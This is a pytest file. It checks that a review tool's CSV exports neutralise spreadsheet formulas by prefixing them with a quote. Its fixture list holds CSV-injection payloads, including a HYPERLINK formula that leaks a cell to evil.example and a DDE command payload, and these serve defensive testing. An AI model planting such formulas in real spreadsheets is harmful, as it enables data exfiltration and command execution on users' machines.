"""CSV of `agree` and `history` never carries a live spreadsheet formula, guarded by the one
guard `export --excel` uses; `--excel` adds the byte-order mark and CRLF, as for export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from reviewer.cli import main
from reviewer.model import Finding
from reviewer.review import annotation
from reviewer.review.annotation import Review

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def _write(folder: Path, category: str, texts: list[str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "letter.review.toml"
    findings = [
        Finding(f"f{i}", category, "Heading", text, 100 * i, 100 * i + 50)
        for i, text in enumerate(texts)
    ]
    letter = {"authority": "Birmingham", "letter_date": dt.date(2023, 5, 1)}
    review = Review("letter.txt", "0" * 64, "utf-8", "ofsted_ucra", letter, findings)
    path.write_text(annotation.dumps(review), encoding="utf-8")
    return path


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def two_reviewers(tmp_path: Path) -> tuple[Path, Path]:
    return (
        _write(tmp_path / "a", "strength", FORMULAS),
        _write(tmp_path / "b", "development", FORMULAS),
    )


def test_agree_csv_guards_every_formula(two_reviewers, capsys) -> None:
    a, b = two_reviewers
    assert main(["agree", str(a), str(b), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = _cells(out)
    assert [r["a_text"] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r["b_text"] for r in rows] == ["'" + f for f in FORMULAS]
    assert not out.startswith("\ufeff") and "\r\n" not in out


def test_history_csv_guards_every_formula(two_reviewers, capsys) -> None:
    a, _ = two_reviewers
    assert main(["history", str(a), "--format", "csv"]) == 0
    rows = _cells(capsys.readouterr().out)
    assert sorted(r["text"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert rows[0]["authority"] == "Birmingham"  # a cell with no formula is left as it is


@pytest.mark.parametrize("command", [["agree", "{a}", "{b}"], ["history", "{a}"]])
def test_excel_adds_the_byte_order_mark_and_crlf(two_reviewers, capsys, command) -> None:
    a, b = two_reviewers
    argv = [part.format(a=a, b=b) for part in command]
    assert main([*argv, "--format", "csv", "--excel"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("\ufeff") and out.count("\r\n") == len(FORMULAS) + 1
    assert "'" + FORMULAS[0] in {cell for row in _cells(out) for cell in row.values()}


@pytest.mark.parametrize("command", [["agree", "{a}", "{b}"], ["history", "{a}"]])
def test_excel_without_csv_is_one_line_of_advice(two_reviewers, capsys, command) -> None:
    a, b = two_reviewers
    assert main([*[part.format(a=a, b=b) for part in command], "--excel"]) == 2
    err = capsys.readouterr().err
    assert err == "reviewer: --excel shapes CSV for spreadsheets; add --format csv (not text)\n"


def test_export_excel_uses_the_same_guard(two_reviewers, capsys) -> None:
    a, _ = two_reviewers
    assert main(["export", str(a), "--excel"]) == 0
    rows = _cells(capsys.readouterr().out)
    assert [r["text"] for r in rows] == ["'" + f for f in FORMULAS]
